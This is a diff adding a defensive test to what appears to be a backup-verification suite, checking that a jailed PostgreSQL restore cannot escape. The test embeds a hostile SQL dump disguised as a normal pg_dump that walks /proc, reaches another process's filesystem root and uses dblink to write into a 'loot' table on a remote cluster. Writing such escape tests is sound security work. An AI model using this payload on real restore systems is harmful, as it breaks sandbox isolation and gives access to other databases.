@@ -221,3 +221,49 @@ def test_the_jailed_sandbox_starts_under_a_strict_umask(postgres_installation: b
             assert connection.execute("SELECT 1").fetchone() == (1,)
     finally:
         os.umask(previous)
+
+
+# a plain dump that looks for another process of the sandbox account outside the jail (psql, restoring it)
+# and connects through that process's view of the filesystem (/proc/PID/root) to the remote's socket
+PROC_ROOT_LEAK = """--
+-- PostgreSQL database dump
+--
+
+CREATE EXTENSION IF NOT EXISTS dblink;
+CREATE TABLE cities (name text);
+DO $escape$
+DECLARE
+    process text;
+BEGIN
+    FOR process IN SELECT entry FROM pg_ls_dir('/proc') AS entry WHERE entry ~ '^[0-9]+$' LOOP
+        BEGIN
+            PERFORM pg_stat_file('/proc/' || process || '/root{socket_dir}/.s.PGSQL.{port}');
+            PERFORM dblink_exec('host=/proc/' || process || '/root{socket_dir} port={port} dbname=postgres '
+                                || 'user=postgres application_name=proc_root',
+                                'INSERT INTO loot VALUES (''through /proc/' || process || '/root'')');
+        EXCEPTION WHEN OTHERS THEN
+            NULL;
+        END;
+    END LOOP;
+END
+$escape$;
+
+--
+-- PostgreSQL database dump complete
+--
+"""
+
+
+def test_a_plain_dump_cannot_reach_out_through_another_process_root(
+    source_db: SourceDatabase, remote: TemporaryCluster, tmp_path: Path
+) -> None:
+    """psql, restoring the file as the sandbox account, must not lend the jailed server its view of the host."""
+    watch = RemoteWatch(remote, source_db.dbname)
+    hostile = tmp_path / f"legacy-{secrets.token_hex(3)}.sql.gz"
+    hostile.write_bytes(gzip.compress(PROC_ROOT_LEAK.format(port=remote.port, socket_dir=remote.socket_dir).encode()))
+
+    report = pipeline.check(source_db.config(tmp_path / "repo"), backup_file=hostile)
+
+    assert watch.rows() == []
+    assert watch.foreign_connections() == []
+    assert report.results, report.could_not_run
